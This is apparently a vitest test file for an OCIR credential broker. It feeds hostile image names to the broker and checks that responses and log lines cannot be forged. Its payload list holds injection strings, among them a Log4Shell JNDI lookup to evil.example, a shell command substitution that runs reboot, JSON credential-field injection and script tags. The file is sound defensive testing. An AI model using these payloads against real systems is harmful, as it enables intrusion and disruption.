/** Image names that try to inject text into log or response, over the socket of a real broker. */
import { createSystemClock } from "@ocir-broker/foundation/time/clock";
import { sharedSimulator } from "@ocir-broker/oci-simulator/for-tests";
import { credentialProviderRequest } from "@ocir-broker/testkit/credential-provider-call";
import { expect, it } from "vitest";
import { startInProcess } from "./in-process-broker.ts";

const HOST = "iad.ocir.io";

const PAYLOADS = [
  "\n",
  "\r\n",
  '\n{"level":"fatal","msg":"forged"}\n',
  "\u0000",
  "\u0007",
  "\u001b[2J\u001b[31mred",
  "\u009b2J",
  "\u2028forged",
  "\u202egnp.exe",
  '","password":"forged","x":"',
  '"}},"auth":{"*":{"username":"u","password":"forged"}}}',
  "\\u0022,\\n",
  "%s%n%d%x",
  "%0a%0dforged",
  "<script>alert(1)</script>",
  "<6>forged priority",
  "\u0024{jndi:ldap://evil.example/a}",
  "$(reboot)`reboot`",
  "__proto__",
  "constructor.prototype",
  "\ud800",
  "é".repeat(300),
  "a".repeat(100_000),
];

const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `${payload}/acme/app`,
  (payload) => `${HOST}${payload}/acme/app`,
  (payload) => `${HOST}/${payload}`,
  (payload) => `${HOST}/acme/${payload}/app`,
  (payload) => `${HOST}/acme/app:${payload}`,
  (payload) => `${HOST}/acme/app@${payload}`,
  (payload) => `${payload}.ocir.io/acme/app`,
  (payload) => `ocir.us-ashburn-1.oci.${payload}/acme/app`,
];

const IMAGES = PLACES.flatMap((place) => PAYLOADS.map(place));

it(`${IMAGES.length} hostile names: responses have the keys that they should, error lines and log lines are one line each`, async () => {
  const clock = createSystemClock();
  const simulator = await sharedSimulator({ clock });
  const config = { registries: { endpoints: { [HOST]: simulator.registryUrl.origin } } };
  const broker = await startInProcess({ clock, simulator, config });
  await broker.pull(`${HOST}/acme/app`);
  const from = broker.lines.length;

  for (const image of IMAGES) {
    const { status, text } = await broker.post(credentialProviderRequest({ image }));
    if (status === 200) {
      const response = JSON.parse(text);
      expect(Object.keys(response)).toEqual(["kind", "apiVersion", "cacheKeyType", "cacheDuration", "auth"]);
      const keys = Object.keys(response.auth);
      if (keys.length > 0) expect(keys, image).toEqual([HOST, "*.ocir.io"]);
      expect(text).not.toContain("forged");
    } else {
      expect(text, image).toMatch(/^ocir-broker: [a-z-]+: [\x20-\x7e]+; [\x20-\x7e]+\n$/);
      expect(text.length).toBeLessThanOrEqual(512);
      expect(text).not.toMatch(/forged|script|jndi|reboot|evil/);
    }
  }

  // Each line was parsed as one JSON value when it was written.
  const lines = broker.lines.slice(from);
  expect(lines.filter(({ msg }) => msg === "request answered" || msg === "request failed")).toHaveLength(IMAGES.length);
  expect(lines.filter(({ msg, level }) => /forged/.test(msg) || level === "fatal")).toEqual([]);
});
